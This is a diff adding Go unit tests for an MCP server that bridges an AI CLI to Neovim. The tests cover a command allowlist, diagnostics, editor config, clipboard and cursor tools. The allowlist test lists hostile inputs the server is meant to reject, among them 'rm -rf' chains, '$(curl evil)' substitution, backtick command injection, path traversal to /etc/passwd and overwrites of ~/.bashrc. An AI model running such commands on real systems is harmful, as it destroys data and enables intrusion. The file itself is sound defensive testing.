@@ -0,0 +1,223 @@
+package mcp
+
+import (
+	"encoding/json"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"gemini-cli/types"
+)
+
+func TestHandleRunCommandAllowlist(t *testing.T) {
+	root := t.TempDir()
+	tests := []struct {
+		name    string
+		command string
+		allowed []string
+		wantRun bool
+	}{
+		{name: "write", command: "write", wantRun: true},
+		{name: "write with bang and colon", command: ":write!", wantRun: true},
+		{name: "plugin command", command: "GeminiStatus", wantRun: true},
+		{name: "not allowlisted", command: "bdelete", wantRun: false},
+		{name: "abbreviation", command: "w", wantRun: false},
+		{name: "chained", command: "write | !rm -rf /", wantRun: false},
+		{name: "shell escape", command: "write !sh", wantRun: false},
+		{name: "newline", command: "write\nbdelete", wantRun: false},
+		{name: "custom allowlist", command: "bdelete", allowed: []string{"bdelete"}, wantRun: true},
+		{name: "custom replaces default", command: "write", allowed: []string{"bdelete"}, wantRun: false},
+		{name: "make", command: "make test", wantRun: true},
+		{name: "make with command separator", command: "make x; rm -rf ~", wantRun: false},
+		{name: "make with command substitution", command: "make $(curl evil)", wantRun: false},
+		{name: "make with backticks", command: "make `id`", wantRun: false},
+		{name: "make with redirection", command: "make > /tmp/out", wantRun: false},
+		{name: "make after a tab", command: "make\tx&&id", wantRun: false},
+		{name: "write in workspace", command: "write " + filepath.Join(root, "a.go"), wantRun: true},
+		{name: "write with encoding option", command: "write ++enc=latin1 " + filepath.Join(root, "a.go"), wantRun: true},
+		{name: "write outside workspace", command: "write! /home/user/.bashrc", wantRun: false},
+		{name: "write home directory", command: "write! ~/.bashrc", wantRun: false},
+		{name: "write relative path", command: "write ../../etc/passwd", wantRun: false},
+		{name: "write append", command: "write >> " + filepath.Join(root, "a.go"), wantRun: false},
+		{name: "write environment variable", command: "update $HOME/.profile", wantRun: false},
+		{name: "write backtick command", command: "write " + filepath.Join(root, "`{touch,/tmp/x}`r"), wantRun: false},
+		{name: "write backtick expression", command: "write " + filepath.Join(root, "`=system(['touch', '/tmp/x'])`"), wantRun: false},
+		{name: "write backtick option", command: "write ++enc=`id` " + filepath.Join(root, "a.go"), wantRun: false},
+		{name: "write wildcard", command: "write " + filepath.Join(root, "{a,b}.go"), wantRun: false},
+		{name: "write two files", command: "write " + filepath.Join(root, "a.go") + " " + filepath.Join(root, "b.go"), wantRun: false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ran := false
+			s := &Server{
+				config: Config{AllowedCommands: tt.allowed, WorkspaceRoots: []string{root}},
+				nvimClient: newFakeClient(func(code string, result interface{}, args ...interface{}) error {
+					ran = true
+					return nil
+				}),
+			}
+
+			result, err := s.handleRunCommand(map[string]interface{}{"command": tt.command})
+			if err != nil {
+				t.Fatalf("handleRunCommand failed: %v", err)
+			}
+			if ran != tt.wantRun {
+				t.Errorf("handleRunCommand(%q) ran = %v, want %v", tt.command, ran, tt.wantRun)
+			}
+			if result.IsError == tt.wantRun {
+				t.Errorf("handleRunCommand(%q) IsError = %v, want %v", tt.command, result.IsError, !tt.wantRun)
+			}
+		})
+	}
+}
+
+func TestHandleGetWorkspaceDiagnosticsSummary(t *testing.T) {
+	var counts []types.BufferDiagnosticCounts
+	s := &Server{nvimClient: newFakeClient(func(code string, result interface{}, args ...interface{}) error {
+		*result.(*[]types.BufferDiagnosticCounts) = counts
+		return nil
+	})}
+	summary := func() types.DiagnosticsSummary {
+		result, err := s.handleGetWorkspaceDiagnosticsSummary(nil)
+		if err != nil || result.IsError {
+			t.Fatalf("handleGetWorkspaceDiagnosticsSummary failed: %v %+v", err, result)
+		}
+		var summary types.DiagnosticsSummary
+		if err := json.Unmarshal([]byte(result.Content[0].Text), &summary); err != nil {
+			t.Fatal(err)
+		}
+		return summary
+	}
+
+	if got := summary(); got.Files == nil || len(got.Files) != 0 || got.Total != (types.DiagnosticCounts{}) {
+		t.Errorf("handleGetWorkspaceDiagnosticsSummary() = %+v, want an empty summary", got)
+	}
+
+	counts = []types.BufferDiagnosticCounts{
+		{Path: "/a.go", DiagnosticCounts: types.DiagnosticCounts{Error: 2, Warning: 1}},
+		{Path: "/b.go", DiagnosticCounts: types.DiagnosticCounts{Error: 1, Hint: 3}},
+	}
+	got := summary()
+	if len(got.Files) != 2 || got.Files["/b.go"].Hint != 3 {
+		t.Errorf("handleGetWorkspaceDiagnosticsSummary() files = %+v, want /a.go and /b.go with their counts", got.Files)
+	}
+	if want := (types.DiagnosticCounts{Error: 3, Warning: 1, Hint: 3}); got.Total != want {
+		t.Errorf("handleGetWorkspaceDiagnosticsSummary() total = %+v, want %+v", got.Total, want)
+	}
+}
+
+func TestHandleGetEditorConfig(t *testing.T) {
+	s := &Server{
+		config: Config{WorkspaceRoots: []string{"/work"}, RelativePaths: true},
+		nvimClient: newFakeClient(func(code string, result interface{}, args ...interface{}) error {
+			*result.(*types.EditorConfig) = types.EditorConfig{Path: args[0].(string), ShiftWidth: 2, TabStop: 8, FileFormat: "unix", Source: "buffer"}
+			return nil
+		}),
+	}
+
+	if result, _ := s.handleGetEditorConfig(map[string]interface{}{}); result.Code != types.ErrorCodeInvalidArgument {
+		t.Errorf("handleGetEditorConfig() without a filePath = %+v, want code %q", result, types.ErrorCodeInvalidArgument)
+	}
+
+	result, err := s.handleGetEditorConfig(map[string]interface{}{"filePath": "/work/a.go"})
+	if err != nil || result.IsError {
+		t.Fatalf("handleGetEditorConfig failed: %v %+v", err, result)
+	}
+	var config types.EditorConfig
+	if err := json.Unmarshal([]byte(result.Content[0].Text), &config); err != nil {
+		t.Fatal(err)
+	}
+	if config.Path != "a.go" || config.ShiftWidth != 2 || config.FileFormat != "unix" {
+		t.Errorf("handleGetEditorConfig() = %+v, want a.go with shiftwidth 2 and unix fileformat", config)
+	}
+}
+
+func TestHandleGotoDiagnostic(t *testing.T) {
+	var gotArgs []interface{}
+	s := &Server{nvimClient: newFakeClient(func(code string, result interface{}, args ...interface{}) error {
+		gotArgs = args
+		return nil
+	})}
+
+	if result, _ := s.handleGotoNextDiagnostic(map[string]interface{}{"severity": "fatal"}); result.Code != types.ErrorCodeInvalidArgument {
+		t.Errorf("handleGotoNextDiagnostic(fatal) = %+v, want code %q", result, types.ErrorCodeInvalidArgument)
+	}
+
+	// Lua returns nil when there are no more diagnostics
+	result, err := s.handleGotoPrevDiagnostic(map[string]interface{}{"severity": "warning"})
+	if err != nil || result.IsError || !strings.Contains(result.Content[0].Text, "No more diagnostics") {
+		t.Errorf("handleGotoPrevDiagnostic() = %+v, %v; want an informational result", result, err)
+	}
+	if len(gotArgs) != 2 || gotArgs[0] != false || gotArgs[1] != "WARN" {
+		t.Errorf("Lua called with %v, want backwards with severity WARN", gotArgs)
+	}
+}
+
+func TestHandleClipboard(t *testing.T) {
+	clipboard := map[string]string{}
+	available := true
+	s := &Server{nvimClient: newFakeClient(func(code string, result interface{}, args ...interface{}) error {
+		if !available {
+			return nil
+		}
+		register := args[0].(string)
+		if len(args) > 1 {
+			clipboard[register] = args[1].(string)
+		}
+		content := clipboard[register]
+		*result.(**string) = &content
+		return nil
+	})}
+
+	result, err := s.handleSetClipboard(map[string]interface{}{"content": "hello"})
+	if err != nil || result.IsError {
+		t.Fatalf("handleSetClipboard = %+v, %v", result, err)
+	}
+	result, err = s.handleGetClipboard(map[string]interface{}{"register": "+"})
+	if err != nil || result.IsError || result.Content[0].Text != "hello" {
+		t.Errorf("handleGetClipboard = %+v, %v; want hello", result, err)
+	}
+
+	result, err = s.handleGetClipboard(map[string]interface{}{"register": "a"})
+	if err != nil || result.Code != types.ErrorCodeInvalidArgument {
+		t.Errorf("handleGetClipboard(a) = %+v, %v; want %q", result, err, types.ErrorCodeInvalidArgument)
+	}
+
+	// Without a clipboard provider the tools inform rather than fail
+	available = false
+	for name, handler := range map[string]func(map[string]interface{}) (*types.ToolCallResult, error){
+		"getClipboard": s.handleGetClipboard,
+		"setClipboard": s.handleSetClipboard,
+	} {
+		result, err := handler(map[string]interface{}{"content": "x"})
+		if err != nil || result.IsError || result.Content[0].Text != noClipboardMessage {
+			t.Errorf("%s without a provider = %+v, %v", name, result, err)
+		}
+	}
+}
+
+func TestHandleGetWordUnderCursor(t *testing.T) {
+	root := t.TempDir()
+	s := &Server{
+		config: Config{WorkspaceRoots: []string{root}, RelativePaths: true},
+		nvimClient: newFakeClient(func(code string, result interface{}, args ...interface{}) error {
+			*result.(*types.WordUnderCursor) = types.WordUnderCursor{
+				Path: root + "/main.go", Word: "handler", Line: 12, StartColumn: 9, EndColumn: 15, LineText: "\treturn handler(w, r)",
+			}
+			return nil
+		}),
+	}
+
+	result, err := s.handleGetWordUnderCursor(nil)
+	if err != nil || result.IsError {
+		t.Fatalf("handleGetWordUnderCursor = %+v, %v", result, err)
+	}
+	var got types.WordUnderCursor
+	if err := json.Unmarshal([]byte(result.Content[0].Text), &got); err != nil {
+		t.Fatal(err)
+	}
+	if got.Path != "main.go" || got.Word != "handler" || got.Line != 12 || got.StartColumn != 9 || got.LineText == "" {
+		t.Errorf("handleGetWordUnderCursor() = %+v, want handler at main.go:12:9", got)
+	}
+}